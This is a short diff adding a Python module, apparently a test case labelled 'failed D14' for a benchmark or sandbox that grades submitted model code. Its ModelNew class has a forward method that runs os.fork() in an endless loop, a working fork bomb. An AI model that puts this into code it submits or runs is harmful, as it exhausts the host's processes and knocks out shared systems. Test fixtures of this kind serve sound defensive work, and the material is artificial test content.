@@ -1,0 +1,11 @@
+"""failed D14: a fork bomb."""
+
+import os
+
+import torch
+
+
+class ModelNew(torch.nn.Module):
+    def forward(self, x):
+        while True:
+            os.fork()
